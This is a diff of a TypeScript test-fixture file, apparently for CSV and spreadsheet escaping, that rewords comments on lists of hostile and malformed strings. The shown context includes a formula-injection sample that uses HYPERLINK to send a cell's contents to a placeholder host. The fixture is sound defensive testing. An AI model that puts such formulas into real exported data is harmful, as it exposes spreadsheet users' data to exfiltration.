@@ -1,4 +1,4 @@
-/** Texts that spreadsheets, CSV or XML take for something else. */
+/** Texts that spreadsheets, CSV or XML would misread. */
 export const hostileTexts: readonly string[] = [
   '=1+1',
   '=HYPERLINK("http://example.com/?"&A1,"press")',
@@ -47,8 +47,8 @@ export const hostileTexts: readonly string[] = [
   'x'.repeat(5000),
 ];
 
-/** Not stored by any release that checks its texts, but by what wrote past it. */
+/** Texts that the store refuses; only data that was written past its checks contains them. */
 export const brokenTexts: readonly string[] = ['bell\u0007', 'nul\u0000', 'half \ud83d of a pair', '\uffff'];
 
-/** Those that a cell of CSV begins with a `'` for. */
+/** Texts before which a CSV cell gets a `'`. */
 export const calculated: readonly string[] = hostileTexts.filter((text) => /^\s*[=+\-@＝＋－＠]/u.test(text));
